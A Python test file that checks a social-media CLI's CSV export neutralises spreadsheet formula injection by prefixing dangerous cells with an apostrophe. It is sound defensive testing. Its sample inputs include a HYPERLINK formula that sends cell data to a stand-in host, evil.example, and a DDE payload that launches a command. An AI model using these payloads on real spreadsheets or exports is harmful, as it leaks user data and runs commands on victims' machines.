"""`smm export --format csv` never hands a spreadsheet a formula (OWASP CSV injection): a cell
starting with = + - @ TAB or CR gets a leading ' inside the quoted cell."""

import csv
import io
import os
import subprocess

from conftest import smm_binary

BIN = smm_binary()

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "-1+2"]


def smm(tmp_path, *args):
    env = {"HOME": str(tmp_path), "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
           "SMM_WORKSPACE": str(tmp_path / "ws.sqlite"), "LANG": "C.UTF-8"}
    return subprocess.run([str(BIN), *args], capture_output=True, env=env, cwd=tmp_path,
                          timeout=60, encoding="utf-8")


def quote(text):
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def test_formulas_in_messages_are_text_in_the_csv(tmp_path):
    lines = ["/new Zed", "/stop", "/brand set hours 8", "/spaces choose instagram facebook"]
    lines += [f"/content message add {quote(f)}" for f in FORMULAS]
    lines += [f"/content adapt {i}" for i in range(1, len(FORMULAS) + 1)]
    lines += ["/calendar plan 4 --start 2026-02-02"]
    args = [a for line in lines for a in ("-c", line)]
    done = smm(tmp_path, *args)
    assert done.returncode == 0, done.stderr
    for how in ("stdout", "file"):
        if how == "stdout":
            exported = smm(tmp_path, "export", "Zed", "--format", "csv")
            assert exported.returncode == 0, exported.stderr
            text = exported.stdout
        else:
            exported = smm(tmp_path, "export", "Zed", "--format", "csv", "-o", "c.csv")
            assert exported.returncode == 0, exported.stderr
            text = (tmp_path / "c.csv").read_bytes().decode("utf-8")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        for cell in cells:
            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), f"{how}: live formula {cell!r}"
        for formula in FORMULAS:
            assert any(cell.startswith("'" + formula) for cell in cells), f"{how}: {formula} missing"
